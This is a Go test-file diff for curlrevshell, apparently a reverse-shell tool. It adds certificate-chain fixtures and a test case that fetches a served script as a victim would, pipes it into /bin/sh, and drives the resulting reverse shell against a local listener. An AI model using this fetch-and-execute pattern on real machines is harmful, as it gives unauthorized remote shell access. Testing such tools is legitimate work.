@@ -16,8 +16,15 @@ import (
 	"bufio"
 	"bytes"
 	"context"
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	crand "crypto/rand"
 	"crypto/sha256"
 	"crypto/tls"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"encoding/pem"
+	"math/big"
 	"encoding/base64"
 	"encoding/hex"
 	"encoding/json"
@@ -28,14 +35,54 @@ import (
 	"net/http"
 	"net/http/httptest"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strings"
 	"testing"
 	"time"
 
+	"golang.org/x/net/idna"
+
 	"github.com/magisterquis/curlrevshell/internal/iobroker"
 	"github.com/magisterquis/curlrevshell/lib/opshell"
+	"github.com/magisterquis/curlrevshell/lib/sstls"
 )
+
+// writeChainCache writes a certificate cache holding a CA-issued leaf followed by its issuer (a "fullchain") and the leaf's key.
+func writeChainCache(path string) error {
+	caKey, err := ecdsa.GenerateKey(elliptic.P256(), crand.Reader)
+	if nil != err {
+		return err
+	}
+	caT := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "verif-ca"}, NotBefore: time.Now().Add(-time.Hour),
+		NotAfter: time.Now().Add(24 * time.Hour), IsCA: true, KeyUsage: x509.KeyUsageCertSign, BasicConstraintsValid: true}
+	caDER, err := x509.CreateCertificate(crand.Reader, caT, caT, &caKey.PublicKey, caKey)
+	if nil != err {
+		return err
+	}
+	lKey, err := ecdsa.GenerateKey(elliptic.P256(), crand.Reader)
+	if nil != err {
+		return err
+	}
+	lT := &x509.Certificate{SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: "verif-leaf"}, NotBefore: time.Now().Add(-time.Hour),
+		NotAfter: time.Now().Add(24 * time.Hour), KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
+	lDER, err := x509.CreateCertificate(crand.Reader, lT, caT, &lKey.PublicKey, caKey)
+	if nil != err {
+		return err
+	}
+	kb, err := x509.MarshalPKCS8PrivateKey(lKey)
+	if nil != err {
+		return err
+	}
+	var b bytes.Buffer
+	b.WriteString("Written by the verification harness\n-- cert --\n")
+	pem.Encode(&b, &pem.Block{Type: "CERTIFICATE", Bytes: lDER})
+	pem.Encode(&b, &pem.Block{Type: "CERTIFICATE", Bytes: caDER})
+	b.WriteString("-- key --\n")
+	pem.Encode(&b, &pem.Block{Type: "PRIVATE KEY", Bytes: kb})
+	os.MkdirAll(filepath.Dir(path), 0700)
+	return os.WriteFile(path, b.Bytes(), 0600)
+}
 
 func hxd(v any) []byte {
 	s, _ := v.(string)
@@ -113,6 +160,12 @@ func runHsrvCase(t *testing.T, c map[string]any, tmp string) map[string]any {
 	certFile := ""
 	if "" != hstr(cfg, "certfile") {
 		certFile = filepath.Join(tmp, hstr(cfg, "certfile"))
+	}
+	if b, _ := cfg["chain_cache"].(bool); b && "" != certFile {
+		if err := writeChainCache(certFile); nil != err {
+			res["fatal"] = err.Error()
+			return res
+		}
 	}
 	var cbAddrs []string
 	for _, a := range anyList(cfg["cbaddrs"]) {
@@ -243,6 +296,88 @@ func runHsrvCase(t *testing.T, c map[string]any, tmp string) map[string]any {
 			ar["status"] = rr.Code
 			ar["body"] = hex.EncodeToString(rr.Body.Bytes())
 			ar["location"] = rr.Header().Get("Location")
+			/* environment oracles for the callback-address rule */
+			if a, err := idna.ToASCII(r.Host); nil == err {
+				ar["host_ascii"] = hex.EncodeToString([]byte(a))
+			} else {
+				ar["host_ascii_err"] = true
+			}
+		case "runscript": /* fetch /c like a victim would, pipe it to /bin/sh, and use the shell */
+			tc, err := dial("")
+			if nil != err {
+				ar["error"] = err.Error()
+				break
+			}
+			fmt.Fprintf(tc, "GET /c?c2=%s HTTP/1.0\r\n\r\n", addr)
+			raw, _ := io.ReadAll(tc)
+			tc.Close()
+			resp, err := http.ReadResponse(bufio.NewReader(bytes.NewReader(raw)), nil)
+			if nil != err {
+				ar["error"] = err.Error()
+				break
+			}
+			script, _ := io.ReadAll(resp.Body)
+			ar["script"] = hex.EncodeToString(script)
+			cmd := exec.Command("/bin/sh")
+			cmd.Stdin = bytes.NewReader(script)
+			cmd.Dir = base
+			if err := cmd.Start(); nil != err {
+				ar["error"] = err.Error()
+				break
+			}
+			/* Wait for the shell to be ready, use it, end it. */
+			var seen []map[string]any
+			waitFor := func(pred func(opshell.CLine) bool, d time.Duration) bool {
+				dl := time.After(d)
+				for {
+					select {
+					case cl := <-och:
+						seen = append(seen, map[string]any{"plain": cl.Plain, "color": int(cl.Color), "line": hex.EncodeToString([]byte(cl.Line))})
+						if pred(cl) {
+							return true
+						}
+					case <-dl:
+						return false
+					}
+				}
+			}
+			ready := waitFor(func(cl opshell.CLine) bool { return strings.Contains(cl.Line, iobroker.ShellReadyMessage) }, 5*time.Second)
+			ar["ready"] = ready
+			if ready {
+				ich <- "echo VERIF-$((40+2))-MARK"
+				got := ""
+				ar["echoed"] = waitFor(func(cl opshell.CLine) bool {
+					if cl.Plain {
+						got += cl.Line
+					}
+					return strings.Contains(got, "VERIF-42-MARK")
+				}, 5*time.Second)
+				ich <- "exit 0"
+				ar["gone"] = waitFor(func(cl opshell.CLine) bool { return strings.Contains(cl.Line, iobroker.ShellDisconnectedMessage) }, 5*time.Second)
+			}
+			done := make(chan error, 1)
+			go func() { done <- cmd.Wait() }()
+			select {
+			case <-done:
+			case <-time.After(3 * time.Second):
+				cmd.Process.Kill()
+				ar["killed"] = true
+			}
+			ar["seen"] = seen
+		case "swapcache": /* another run regenerates the certificate cache while this one is up */
+			os.Remove(certFile)
+			if _, err := sstls.GetCertificate("", nil, nil, 0, certFile); nil != err {
+				ar["error"] = err.Error()
+			}
+		case "handshake": /* what does the listener present now? */
+			if tc, err := dial(""); nil == err {
+				if cs := tc.ConnectionState(); 0 != len(cs.PeerCertificates) {
+					ar["served_spki"] = hex.EncodeToString(cs.PeerCertificates[0].RawSubjectPublicKeyInfo)
+				}
+				tc.Close()
+			} else {
+				ar["error"] = err.Error()
+			}
 		case "tmpl": /* edit / remove the template file */
 			if v, ok := am["c"].(string); ok {
 				os.WriteFile(tmplf, hxd(v), 0600)
